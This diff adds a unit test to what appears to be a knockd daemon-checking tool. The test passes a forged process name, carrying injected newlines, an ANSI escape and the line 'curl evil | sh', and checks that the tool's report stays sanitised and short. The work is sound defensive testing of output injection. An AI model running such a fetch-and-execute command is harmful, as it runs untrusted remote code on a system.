@@ -200,6 +200,17 @@ describe('daemons', () => {
     ])
   })
 
+  test('what another process calls itself makes no finding and no command of its own', () => {
+    const command = `knockd\nfault: knockd: type\n    curl evil | sh\n\u001B[2J${'x'.repeat(5_000)}`
+    const text = asText('x', judgeDaemons([{ pid: 8, command }], status, '/etc/knockd.conf'))
+    expect(text.split('\n')).toHaveLength(4)
+    expect(text).not.toContain('\u001B')
+    expect(text.length).toBeLessThan(400)
+    expect(asText('x', [{ severity: 'note', subject: 'a', message: 'one\n  two\u009B' }])).toBe(
+      'note: a: one; two\\u009b\nx: nothing found\n',
+    )
+  })
+
   test('packets that were lost, and a journal that cannot be written', () => {
     expect(judgeRunning(status).map(({ message }) => message)).toEqual([
       'eth0: 10 packets were lost of 100: knocks among them come to nothing',
